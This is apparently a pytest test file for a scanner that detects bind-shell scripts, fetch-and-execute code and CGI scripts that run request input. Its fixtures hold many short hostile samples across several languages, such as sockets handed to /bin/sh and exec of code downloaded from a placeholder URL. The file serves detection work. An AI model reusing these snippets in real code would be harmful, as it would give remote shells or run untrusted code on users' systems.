from __future__ import annotations

import pytest

from portwatch.core import shell_code

SOCKET = "import socket\ns = socket.socket()\ns.listen()\nc, _ = s.accept()\n"

RUBY = "require 'socket'\ns = TCPServer.new 1\nc = s.accept\n"
JAVA = "var s = new ServerSocket(4000); var c = s.accept(); var p = {};"


@pytest.mark.parametrize(
    "code",
    [
        SOCKET + "os.dup2(c.fileno(), 0)\nos.execv('/bin/sh', ['sh'])",
        SOCKET + "pty.spawn('bash')",
        SOCKET + "subprocess.Popen(['/bin/sh'], stdin=c, stdout=c)",
        SOCKET + "c.send(os.popen(c.recv(9).decode()).read().encode())",
        SOCKET + "subprocess.run(c.recv(9), shell=True)",
        "use Socket; listen(S,5);accept(C,S);open(STDIN,'>&C');exec('/bin/sh -i');",
        "require 'socket'\nc=TCPServer.new(1).accept\nexec '/bin/sh',[:in,:out,:err]=>c",
        "<?php $s=stream_socket_server('tcp://x');proc_open('/bin/sh',[$c,$c],$p);",
        "require('net').createServer(s=>{p=spawn('/bin/sh');s.pipe(p.stdin)})",
        'socket -server a 4\nproc a {c h p} {set s [open "|sh -i 2>@1" r+]; fcopy $c $s}',
        "socket -server a 4\nproc a {c h p} {set s [open {|/bin/sh} r+]; fcopy $c $s}",
        RUBY + "$stdin.reopen(c); exec '/bin/sh'",
        RUBY + "[0, 1].each { |n| IO.for_fd(n).reopen(c) }; exec '/bin/sh'",
        JAVA.format('new ProcessBuilder("/bin/sh", "-i").start()'),
        JAVA.format('Runtime.getRuntime().exec("/bin/bash")'),
        JAVA.format('new ProcessBuilder(new String[]{"bash"}).start()').replace("bash", "sh"),
    ],
)
def test_a_script_that_hands_peers_to_a_shell_is_known(code: str) -> None:
    assert shell_code.joins_script(code)


@pytest.mark.parametrize(
    "code",
    [
        "",
        SOCKET + "c.send(b'hello')",
        SOCKET + "subprocess.run(['git', 'pull'], stdin=subprocess.DEVNULL, stdout=log)",
        SOCKET + "subprocess.Popen(['/bin/sh', 'deploy.sh'])",
        "import subprocess, http.server\nsubprocess.run('make', shell=True)",
        (
            "const b = spawn('sh', ['-c', 'x']); b.stdout.pipe(process.stdout);"
            " require('http').createServer().listen(1)"
        ),
        "import websocket\nws.listen()\nws.recv()\nimport pty",
        "master, side = os.openpty()\nPopen(['/bin/bash'], stdin=side, stdout=side)\n" + SOCKET,
        'socket -server a 4\nproc a {c h p} {set s [open "|sh deploy.sh" r]; fcopy $s $c}',
        RUBY + "$stdin.reopen('/dev/null'); exec '/bin/sh', 'deploy.sh'",
        RUBY + "STDIN.reopen(File::NULL); system('/bin/sh deploy.sh')",
        JAVA.format('new ProcessBuilder("/bin/sh", "-c", "df -h").start()'),
        JAVA.format('new ProcessBuilder("/bin/sh", "deploy.sh").start()'),
    ],
)
def test_a_script_that_does_not_is_left_alone(code: str) -> None:
    assert not shell_code.joins_script(code)


@pytest.mark.parametrize("word", ["from(", "open STDIN,", "stdin=a", "dup2(", ":in", "b64decode"])
def test_hostile_code_takes_no_longer_than_its_length(word: str) -> None:
    code = SOCKET + "/bin/sh " + word * (shell_code.AT_MOST // len(word))

    # A pattern that goes back over what it read would not come to an end.
    shell_code.joins_script(code)
    shell_code.joins_inline(code)
    shell_code.is_packed(code)


@pytest.mark.parametrize(
    "code",
    [
        "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
        "import requests\nexec(requests.get('http://h/x').text)",
        "x = urlopen('http://h/x').read()\neval(x)",
        "exec(open('/tmp/x').read())",
        "load '/tmp/x.rb'",
        "require('/tmp/x.js')",
        'include "/dev/shm/x.php";',
        "do '/var/tmp/x.pl'",
        "x = '/tmp/x.lua'; dofile(x)",
        "p = '/tmp/x'; require(p)",
    ],
)
def test_code_that_runs_what_it_fetches_is_known(code: str) -> None:
    assert shell_code.fetches(code)


@pytest.mark.parametrize(
    "code",
    [
        "import json,urllib.request as u; print(json.load(u.urlopen('http://h/x')))",
        "import json; json.load(open('/tmp/x'))",
        "json.loads(requests.get('http://h').text)",
        "const e = require('express'); fetch('http://h')",
        "const fs = require('fs'); fs.readFileSync('/tmp/x')",
        "require 'net/http'; Net::HTTP.get(URI('http://h'))",
        "with open('/tmp/x', 'w') as f: f.write('do this')",
        "yaml.safe_load(open('/tmp/x'))",
    ],
)
def test_code_that_only_reads_what_it_fetches_is_left_alone(code: str) -> None:
    assert not shell_code.fetches(code)


@pytest.mark.parametrize("word", ["load(", "require ", "/tmp/", "p = '/tmp/", "load p\n"])
def test_looking_for_what_is_fetched_takes_no_longer_than_its_length(word: str) -> None:
    shell_code.fetches("fetch(" + word * (shell_code.AT_MOST // len(word)))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('#!/bin/sh\necho\nread -r line\neval "$line"\n', True),
        ('#!/bin/bash\nbash -c "$QUERY_STRING"\n', True),
        ('#!/usr/bin/env bash\nq=${QUERY_STRING#c=}\necho "$q" | sh\n', True),
        ("#!/bin/sh\necho\nuptime\n", False),
        ('#!/bin/sh\ncase "$QUERY_STRING" in up) uptime;; esac\nsh -c "df -h"\n', False),
        ('#!/bin/sh\nread -r line < motd\necho "$line"\n', False),
        ("#!/usr/bin/perl\nread x; eval $x", False),
    ],
)
def test_a_script_for_a_web_server_that_carries_out_what_it_is_asked(
    code: str, *, expected: bool
) -> None:
    assert shell_code.runs_request(code) is expected
